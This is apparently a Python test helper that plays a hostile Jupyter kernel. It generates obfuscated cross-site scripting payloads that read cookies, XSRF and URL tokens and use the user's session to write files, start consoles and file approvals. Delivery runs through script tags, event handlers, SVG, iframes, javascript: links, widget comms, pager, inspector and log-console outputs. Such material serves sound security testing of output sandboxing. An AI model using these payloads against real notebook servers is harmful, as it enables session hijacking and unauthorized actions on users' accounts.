"""What a hostile kernel displays: for each channel, code that tries to use the person's rights."""

from __future__ import annotations

import base64
import json
from typing import Any

_ATTEMPT = """
(async () => {
  const base = BASE, name = window.channel || NAME;
  let cookie = '', address = '';
  for (const one of [window, window.parent, window.top]) {
    try { cookie = cookie || one.document.cookie; } catch {}
    try { address += one.location.href; } catch {}
  }
  address += document.baseURI + document.referrer;
  const xsrf = (/_xsrf=([^;]+)/.exec(cookie) || [])[1] || '';
  const headers = { 'Content-Type': 'application/json', 'X-XSRFToken': xsrf };
  const send = (method, route, body, more) => fetch(`${base}/${route}`,
    { method, credentials: 'include', headers, body: JSON.stringify(body), ...more });
  const file = { type: 'file', format: 'text', content: name };
  const token = (/token=([0-9a-f]+)/.exec(address) || [])[1];
  if (token) {
    await send('POST', `api/contents?token=${token}`, file, { mode: 'no-cors', headers: {} })
      .catch(() => {});
  }
  await send('POST', 'api/contents', file, { mode: 'no-cors', headers: {} }).catch(() => {});
  if (name === 'html-script') {
    await send('POST', 'api/sessions', { path: 'canary', name: 'canary', type: 'console',
      kernel: { name: 'python3' } }).catch(() => {});
    const asks = { path: NOTEBOOK, settings: SETTINGS, items: ITEMS };
    await send('POST', 'jupyter-containers/approvals', asks).catch(() => {});
  }
  await send('PUT', `api/contents/canary-${name}`, file).catch(() => {});
  document.documentElement.dataset.tried = name;
})()"""


class Attack:
    """The attempts against a server, and notebooks that bring them."""

    def __init__(self, base: str, notebook: str, settings: Any, items: list[str]) -> None:
        self._values = {"BASE": base, "NOTEBOOK": notebook, "SETTINGS": settings, "ITEMS": items}

    def script(self, name: str) -> str:
        """JavaScript without quotes that matter in HTML."""
        text = _ATTEMPT
        for key, value in {**self._values, "NAME": name}.items():
            text = text.replace(key, json.dumps(value))
        return f"eval(atob(`{base64.b64encode(text.encode()).decode()}`))"

    def html(self, name: str) -> str:
        return f'<img src="x:" onerror="{self.script(name)}">'

    @property
    def displays(self) -> dict[str, dict[str, str]]:
        """MIME bundles by channel: all run where outputs are trusted."""
        element = f"<script>{self.script('html-script')}</script>"
        frame = self.script("html-frame")
        onload = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{self.script("svg")}"></svg>'
        return {
            "html-script": {"text/html": element},
            "html-handler": {"text/html": self.html("html-handler")},
            "html-frame": {"text/html": f'<iframe srcdoc="<script>{frame}</script>"></iframe>'},
            "javascript": {"application/javascript": self.script("javascript")},
            "svg": {"image/svg+xml": onload},
            "markdown": {"text/markdown": f"# A title\n\n{self.html('markdown')}"},
        }

    @property
    def baits(self) -> list[dict[str, str]]:
        """What waits for a click on the class `bait`."""
        args = json.dumps({"path": "canary-command", "kernelPreference": {"name": "python3"}})
        link = f'<a class="bait" href="javascript:{self.script("link")}">link</a>'
        action = f'<form action="javascript:{self.script("form")}">'
        command = (
            '<button class="bait" data-commandlinker-command="console:create" '
            f"data-commandlinker-args='{args}'>command</button>"
        )
        return [
            {"text/html": link},
            {"text/html": f'{action}<button class="bait">form</button></form>'},
            {"text/markdown": command},
        ]

    @property
    def cells(self) -> list[str]:
        """Code for a kernel that displays all of it, and more that is no bundle of a cell."""
        marked = {"text/html": self.html("marked")}
        pager = {"source": "page", "data": {"text/html": self.html("pager")}, "start": 0}
        text = f"{self.html('text')}\x1b[31m{self.html('ansi')}"
        build = {"job": self.html("build"), "state": "running", "steps": [], "image": text}
        view = {"application/vnd.jupyter-containers.build+json": build, "text/plain": "built"}
        return [
            f"for one in {list(self.displays.values())!r}:\n    display(one, raw=True)",
            f"for one in {self.baits!r}:\n    display(one, raw=True)",
            f"display({marked!r}, raw=True, metadata={{'isolated': True}})\n"
            "shown = display({'text/plain': ''}, raw=True, display_id=True)\n"
            f"shown.update({{'text/html': {self.html('update')!r}}}, raw=True)\n"
            f"get_ipython().payload_manager.write_payload({pager!r})",
            f"print({text!r})\ndisplay({view!r}, raw=True)\nraise ValueError({text!r})",
            widget(self.html("widget"), self.script("comm")),
            _UNASKED.replace("VALUE", repr(self.html("log"))),
            _INSPECT.replace("INSPECTED", repr(self.html("inspector")))
            .replace("RENDERED", repr(self.html("debugger")))
            .strip(),
        ]

    @property
    def saved(self) -> dict[str, Any]:
        """Widgets that are saved in a notebook's metadata, and the output that shows one."""
        states = widget_states(self.html("saved"))
        return {"application/vnd.jupyter.widget-state+json": states}


def widget(value: str, code: str = "") -> str:
    """A cell that shows an HTML widget, and sends code in a comm."""
    return _WIDGET.replace("VALUE", repr(value)).replace("CODE", repr(code))


def widget_states(value: str) -> dict[str, Any]:
    """The state of an HTML widget, as notebooks keep it."""
    base, controls = "@jupyter-widgets/base", "@jupyter-widgets/controls"
    models = {
        "saved-layout": (base, "LayoutModel", {}),
        "saved-style": (controls, "HTMLStyleModel", {}),
        "saved-html": (
            controls,
            "HTMLModel",
            {"layout": "IPY_MODEL_saved-layout", "style": "IPY_MODEL_saved-style", "value": value},
        ),
    }
    state = {
        name: {
            "model_module": module,
            "model_module_version": "2.0.0",
            "model_name": model,
            "state": values,
        }
        for name, (module, model, values) in models.items()
    }
    return {"version_major": 2, "version_minor": 0, "state": state}


_WIDGET = """\
from comm import create_comm


def model(module, name, **state):
    shape = {"_model_module": module, "_model_module_version": "2.0.0", "_model_name": name}
    if name == "HTMLModel":
        shape |= {"_view_module": module, "_view_module_version": "2.0.0", "_view_name": "HTMLView"}
    made = create_comm(
        target_name="jupyter.widget",
        data={"state": {**shape, **state}, "buffer_paths": []},
        metadata={"version": "2.1.0"},
    )
    return made.comm_id


base, controls = "@jupyter-widgets/base", "@jupyter-widgets/controls"
layout, style = model(base, "LayoutModel"), model(controls, "HTMLStyleModel")
refs = {"layout": f"IPY_MODEL_{layout}", "style": f"IPY_MODEL_{style}"}
shown = model(controls, "HTMLModel", value=VALUE, **refs)
view = {"version_major": 2, "version_minor": 0, "model_id": shown}
display({"application/vnd.jupyter.widget-view+json": view, "text/plain": "HTML()"}, raw=True)
esm = create_comm(target_name="test.esm", data={"_esm": CODE})
"""
"""ipywidgets' messages without ipywidgets, and what anywidget does: code in a comm."""

_UNASKED = """\
kernel = get_ipython().kernel
content = {"data": {"text/html": VALUE}, "metadata": {}, "transient": {}}
kernel.session.send(kernel.iopub_socket, "display_data", content, parent={})
"""
"""What belongs to no cell: JupyterLab draws it in the log console."""

_INSPECT = """\
kernel = get_ipython().kernel


def do_inspect(*args, **more):
    data = {"text/html": INSPECTED, "text/plain": "a docstring"}
    return {"status": "ok", "found": True, "data": data, "metadata": {}}


class Rendered:
    def _repr_html_(self):
        return RENDERED


kernel.do_inspect = do_inspect
some = Rendered()
"""
"""What the tooltip and the inspector draw, and the debugger's *Render Variable*."""
